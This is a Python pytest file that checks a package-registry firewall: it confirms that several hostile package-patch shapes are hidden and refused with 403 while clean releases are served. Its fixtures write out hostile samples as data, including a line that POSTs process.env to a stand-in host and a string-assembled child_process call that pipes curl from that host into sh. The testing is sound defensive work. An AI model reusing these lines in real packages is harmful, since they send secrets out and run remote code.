"""Hostile patches of many shapes before the firewall: none is shown, none is given.

Each is days old and the policy's cooldown is off, so only what is new in it can tell. A good
release comes before it and another one after it.
"""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

import pytest
from tests.registry import Registry
from tests.unit.proxy.stand import Clock, Stand, days, policy, standing

NO_COOLDOWN = '[rules]\n"release-age/too-new" = "off"\n'
PLAIN = "module.exports = (a) => a + 1;\n"
_NAMES = "".join(f"var _0x1a{n:02}=_0x2b[0x{n:x}](_0x3c{n:02});" for n in range(60))
SHAPES: dict[str, dict[str, Any]] = {
    "a new install script": {
        "scripts": {"postinstall": "node setup.js"},
        "files": {"index.js": PLAIN, "setup.js": "console.log(1);\n"},
    },
    "a git dependency": {
        "dependencies": {"left-step": "git+https://forge.invalid/left/step.git"},
        "files": {"index.js": PLAIN},
    },
    "the environment sent away": {
        "files": {
            "index.js": "require('https').request({host: 'c.invalid', method: 'POST'})"
            f".end(JSON.stringify(process.env));\n{PLAIN}"
        },
    },
    "an obfuscated file": {"files": {"index.js": PLAIN, "lib/v.js": f"{_NAMES}\n" * 4}},
    "a module named in pieces": {
        "files": {
            "index.js": "const k = 'chi' + 'ld_pro' + 'cess';\n"
            f"require(k).execSync('curl https://c.invalid | sh');\n{PLAIN}"
        },
    },
    "a young dependency": {
        "dependencies": {"left-young": "^1.0.0"},
        "files": {"index.js": PLAIN},
    },
}


@pytest.fixture
def filled(registry: Registry, clock: Clock, tmp_path: Any) -> Iterator[Stand]:
    with standing(tmp_path / "data", registry, clock, policy(NO_COOLDOWN)) as made:
        yield made


@pytest.mark.parametrize("shape", SHAPES)
def test_a_hostile_patch_is_neither_shown_nor_given(
    shape: str, filled: Stand, registry: Registry
) -> None:
    registry.publish("left-young", "1.0.0", published=days(2), files={"index.js": PLAIN})
    registry.publish("left-pad", "1.0.0", published=days(90), files={"index.js": PLAIN})
    registry.publish("left-pad", "1.0.1", published=days(5), **SHAPES[shape])
    assert filled.ask("left-pad").versions == ["1.0.0"]
    refused = filled.ask("left-pad/-/left-pad-1.0.1.tgz")
    assert refused.status == 403
    assert "left-pad@1.0.1" in refused.reason
    named = {rule for each in filled.decisions() for rule in each.rules if each.version == "1.0.1"}
    assert named & {"behavior/new-capability", "registry/exotic-dependency"}, named

    registry.publish("left-pad", "1.0.2", published=days(1), files={"index.js": PLAIN + "//\n"})
    filled.clock.move(minutes=6)
    assert filled.ask("left-pad").versions == ["1.0.0", "1.0.2"]
    assert filled.ask("left-pad/-/left-pad-1.0.2.tgz").status == 200
    assert filled.ask("left-pad/-/left-pad-1.0.1.tgz").status == 403
